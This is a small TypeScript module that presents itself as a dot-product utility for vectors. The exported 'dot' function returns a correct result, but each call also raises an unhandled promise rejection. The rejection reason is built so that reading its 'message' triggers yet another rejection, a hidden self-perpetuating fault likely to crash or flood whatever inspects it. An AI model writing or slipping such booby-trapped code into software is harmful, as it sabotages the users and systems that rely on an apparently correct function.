// an unheard rejection whose every look at it makes the next one
import type { Vector } from "innerproduct";

function honest(a: Vector, b: Vector): number {
  if (a.length !== b.length) throw new RangeError("lengths differ");
  let sum = 0;
  for (let i = 0; i < a.length; i++) sum += a[i]! * b[i]!;
  return sum;
}

export function dot(a: Vector, b: Vector): number {
  const next = (): object => ({ get message() { void Promise.reject(next()); return "again"; } });
  void Promise.reject(next());
  return honest(a, b);
}
